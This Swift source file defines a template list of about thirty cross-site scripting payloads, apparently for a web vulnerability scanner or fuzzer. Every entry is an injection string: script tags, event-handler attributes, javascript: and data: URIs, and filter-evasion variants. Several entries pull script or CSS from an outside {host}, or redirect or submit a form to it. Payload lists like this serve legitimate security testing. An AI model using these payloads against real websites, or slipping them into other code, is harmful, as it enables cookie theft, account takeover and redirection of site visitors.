/// Scripts, event handlers, odd tags and schemes, and what slips past filters.
enum CrossSiteScripting {
    static let payloads = Template.list(
        "<script>{function}</script>", "\"><script>{function}</script>",
        "'><img src=x onerror={function}>",
        "<svg/onload={function}>", "<body onload={function}>", "<ScRiPt>{function}</sCrIpT>",
        "<script src=//{host}/x.js></script>", "<iframe src=\"javascript:{function}\"></iframe>",
        "javascript:{function}", "<a href=\"javascript:{function}\">x</a>",
        "\" onmouseover=\"{function}",
        "' onfocus='{function}' autofocus='", "<details open ontoggle={function}>",
        "<video><source onerror=\"{function}\"></video>", "<marquee onstart={function}>",
        "<math><mtext></mtext><script>{function}</script></math>",
        "</title><script>{function}</script>",
        "<img src=x:x onerror=\"{function}\"//>", "<input autofocus onfocus={function}>",
        "<scr<script>ipt>{function}</scr</script>ipt>", "\\\"-{function}//", "';{function}//",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<style>@import 'http://{host}/x.css';</style>",
        "<meta http-equiv=refresh content=0;url=//{host}>",
        "&lt;script&gt;{function}&lt;/script&gt;",
        "<svg><animate onbegin={function} attributeName=x>",
        "{search}<script>{function}</script>", "<form action=//{host}><input name=p></form>",
        "data:text/html,<script>{function}</script>", "<img/src/onerror={function}>")
}
